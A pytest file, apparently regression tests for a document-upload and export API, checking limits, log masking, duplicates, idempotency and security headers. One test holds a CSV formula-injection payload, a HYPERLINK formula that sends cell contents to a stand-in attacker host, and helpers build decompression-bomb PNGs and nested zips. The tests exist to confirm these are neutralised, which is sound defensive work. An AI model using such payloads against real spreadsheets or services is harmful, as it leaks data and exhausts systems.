"""What an adversarial probe of the API got through (issue 15), each answered now with a clear 4xx.

Uploads run the embedded default with the queue's light stand-in reader, as in
``test_api_batches``; the limits are the ones named in the issue.
"""

from __future__ import annotations

import contextlib
import csv
import io
import logging
import re
import struct
import zipfile
import zlib
from pathlib import Path

import pytest
from api_support import Api, approve, make_api, scan_png, seed_filing
from builders import GOOD_ID, declaration, household_register
from PIL import Image
from uvicorn.logging import AccessFormatter

from api.masking import install_log_masking


def _upload(api: Api, files: list[tuple[str, bytes]], key: str | None = None, role: str = "station"):
    headers = {**api.as_(role), **({"Idempotency-Key": key} if key else {})}
    return api.client.post(
        "/v1/batches",
        data={"station_id": api.station},
        files=[("files", (name, data, "application/octet-stream")) for name, data in files],
        headers=headers,
    )


def _flat_png(side: int, shade: int = 255) -> bytes:
    """A gray PNG stored without compression: ``side``² bytes that a zip squeezes to almost nothing."""
    out = io.BytesIO()
    Image.new("L", (side, side), shade).save(out, format="PNG", compress_level=0)
    return out.getvalue()


def _zip(members: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in members.items():
            zf.writestr(name, data)
    return out.getvalue()


def _png_header_only(width: int, height: int) -> bytes:
    """A PNG whose header claims ``width`` x ``height`` (what a decompression bomb looks like to a parser)."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    ihdr = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", zlib.compress(b"\0" * 64)) + chunk(
        b"IEND", b""
    )


# 2. malformed parameters


@pytest.mark.parametrize("after", ["²", "③", "٣", "-1", "1e3", " 7"])
def test_unicode_digits_and_other_odd_cursors_are_422(tmp_path: Path, after: str) -> None:
    api = make_api(tmp_path)
    r = api.client.get("/v1/export/filings", params={"after": after}, headers=api.as_("integration"))
    assert r.status_code == 422 and r.json()["code"] == "invalid_cursor", r.text


# 3. masking keeps uvicorn's access lines


def test_access_log_lines_survive_masking_and_ids_followed_by_letters_are_masked() -> None:
    install_log_masking()
    stream = io.StringIO()
    handler = logging.StreamHandler(stream)
    handler.setFormatter(AccessFormatter('%(client_addr)s - "%(request_line)s" %(status_code)s'))
    logger = logging.getLogger("uvicorn.access.test15")
    logger.addHandler(handler)
    logger.setLevel(logging.INFO)
    logger.propagate = False
    errors = io.StringIO()
    previous = logging.raiseExceptions
    logging.raiseExceptions = True
    try:
        # the very call uvicorn's protocols make for each request
        path = f"/v1/filings?region={GOOD_ID}abc&id={GOOD_ID}"
        with contextlib.redirect_stderr(errors):
            logger.info('%s - "%s %s HTTP/%s" %d', "127.0.0.1:5000", "GET", path, "1.1", 200)
    finally:
        logging.raiseExceptions = previous
        logger.removeHandler(handler)
    line = stream.getvalue()
    assert "Logging error" not in errors.getvalue(), errors.getvalue()
    masked = f"{GOOD_ID[:6]}********{GOOD_ID[-4:]}"
    assert f"region={masked}abc&id={masked}" in line and "200" in line, line
    assert GOOD_ID not in line


# 4. nested zips count as one tree


def test_a_zip_of_small_zips_is_held_to_the_limit_as_a_whole(tmp_path: Path, standin: None) -> None:
    api = make_api(tmp_path, max_upload_bytes=1_000_000)
    inner = [_zip({"scan.png": _flat_png(970, shade=n)}) for n in range(12)]
    outer = _zip({f"part-{n}.zip": data for n, data in enumerate(inner)})
    assert len(outer) < 200_000 and all(len(d) < 1_000_000 for d in inner)
    r = _upload(api, [("packet.zip", outer)])
    assert r.status_code == 202, r.text
    files = r.json()["files"]
    assert [f["error_code"] for f in files] == ["archive_too_large"], files
    # a nested zip that fits is still unpacked
    r = _upload(api, [("small.zip", _zip({"inner.zip": _zip({"scan.png": scan_png()})}))])
    assert [f["state"] for f in r.json()["files"]] == ["queued"], r.text


# 5. per file, and per request


def test_the_upload_limit_is_per_file_and_the_request_has_its_own_cap(tmp_path: Path, standin: None) -> None:
    api = make_api(tmp_path, max_upload_bytes=1_000_000, max_batch_bytes=3_000_000)
    files = [(f"{n}.png", scan_png(str(n)) + bytes([n]) * 900_000) for n in range(3)]
    r = _upload(api, files)
    assert r.status_code == 202, r.text
    assert [f["state"] for f in r.json()["files"]] == ["queued"] * 3
    r = _upload(api, [("big.png", scan_png() + b"\0" * 1_100_000)])
    assert r.status_code == 202 and r.json()["files"][0]["error_code"] == "too_large"
    r = _upload(api, [(f"{n}.png", scan_png(str(n)) + bytes([n]) * 900_000) for n in range(5)])
    assert r.status_code == 413 and r.json()["code"] == "too_large"


# 6. duplicates stay within a station


def test_another_stations_copy_is_its_own_file_and_no_name_leaks(tmp_path: Path, standin: None) -> None:
    api_a = make_api(tmp_path / "a")
    api_b = make_api(tmp_path / "b", api_a.settings.resolved_database_url)
    scan = scan_png("one packet")
    first = _upload(api_a, [("zhang-san-declaration.png", scan)]).json()
    assert first["files"][0]["state"] == "queued"
    other = _upload(api_b, [("scan.png", scan)])
    assert other.status_code == 202
    [copy] = other.json()["files"]
    assert copy["state"] == "queued" and copy["duplicate_of_file_id"] is None
    assert "zhang-san" not in other.text
    again = _upload(api_a, [("again.png", scan)]).json()["files"][0]
    assert again["state"] == "duplicate" and "zhang-san-declaration.png" in again["error_message"]


# 7. a reused Idempotency-Key


def test_a_reused_idempotency_key_with_other_files_is_422(tmp_path: Path, standin: None) -> None:
    api = make_api(tmp_path)
    first = _upload(api, [("a.png", scan_png("a"))], key="k-1")
    assert first.status_code == 202
    retry = _upload(api, [("a.png", scan_png("a"))], key="k-1")
    assert retry.status_code == 202 and retry.json()["batch_id"] == first.json()["batch_id"]
    other = _upload(api, [("b.png", scan_png("b"))], key="k-1")
    assert other.status_code == 422 and other.json()["code"] == "idempotency_key_reused", other.text


# 8. CSV formula injection


def test_csv_cells_that_start_like_formulas_are_inert(tmp_path: Path) -> None:
    api = make_api(tmp_path)
    payload = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    filing_id = seed_filing(api, [declaration(reason=payload, employer="@SUM(1+1)"), household_register()])
    approve(api, filing_id)
    r = api.client.get("/v1/export/filings", params={"format": "csv"}, headers=api.as_("integration"))
    [row] = [row for row in csv.DictReader(io.StringIO(r.text)) if row["filing_id"] == filing_id]
    assert row["reason"] == "'" + payload and row["employer"] == "'@SUM(1+1)"
    json_feed = api.client.get("/v1/export/filings", headers=api.as_("integration")).json()
    assert json_feed["items"][0]["fields"]["reason"] == payload  # JSON keeps the value as it is


# 10. pixels, names, roles, page headers


def test_image_bombs_are_refused_at_intake_with_the_services_limit(tmp_path: Path, standin: None) -> None:
    api = make_api(tmp_path, max_image_pixels=80_000_000)
    out = io.BytesIO()
    Image.new("1", (10_000, 9_000), 1).save(out, format="PNG")  # 90 Mpx, a few kB
    r = _upload(api, [("huge.png", _png_header_only(30_000, 30_000)), ("big.png", out.getvalue())])
    assert r.status_code == 202, r.text
    assert [f["error_code"] for f in r.json()["files"]] == ["image_too_large", "image_too_large"], r.text


def test_over_long_file_names_are_refused_with_their_reason(tmp_path: Path, standin: None) -> None:
    api = make_api(tmp_path)
    r = _upload(api, [("n" * 5000 + ".png", scan_png())])
    assert r.status_code == 400 and r.json()["code"] == "part_header_too_large", r.text
    r = _upload(api, [("n" * 300 + ".png", scan_png()), ("ok.png", scan_png("ok"))])
    assert r.status_code == 202
    named, ok = r.json()["files"]
    assert named["error_code"] == "file_name_too_long" and len(named["source"]) < 120
    assert ok["state"] == "queued"


def test_admin_reads_what_the_readme_says(tmp_path: Path) -> None:
    api = make_api(tmp_path)
    readme = (Path(__file__).resolve().parent.parent / "README.md").read_text(encoding="utf-8")
    doc = api.client.get("/openapi.json").json()
    for path, methods in doc["paths"].items():
        for method, op in methods.items():
            if not path.startswith("/v1/") or path.startswith(("/v1/keys", "/v1/webhooks", "/v1/settings")):
                continue
            if path.startswith("/v1/rule-packs"):
                continue
            shown = path.replace("{filing_id}", "{id}").replace("{batch_id}", "{id}")
            shown = shown.replace("{document_id}", "{document}")
            [line] = [ln for ln in readme.splitlines() if _table_path(ln, method) == shown]
            listed = re.split(r"(?<!\\)\|", line)[2]
            for role in op["x-roles"]:
                assert role in listed, (method, path, role, listed)


def _table_path(line: str, method: str) -> str | None:
    """``/v1/batches`` from ``| `GET /v1/batches?before=…` | …``; None for other lines."""
    head = f"| `{method.upper()} "
    if not line.startswith(head):
        return None
    return re.split(r"[?\[`]", line[len(head) :], maxsplit=1)[0]


def test_the_review_page_sends_a_content_security_policy_and_nosniff(tmp_path: Path) -> None:
    api = make_api(tmp_path)
    for url in ("/review", "/review/static/app.js", "/review/labels.json"):
        r = api.client.get(url)
        assert r.status_code == 200
        assert "default-src 'self'" in r.headers["Content-Security-Policy"]
        assert "frame-ancestors 'none'" in r.headers["Content-Security-Policy"]
        assert r.headers["X-Content-Type-Options"] == "nosniff"
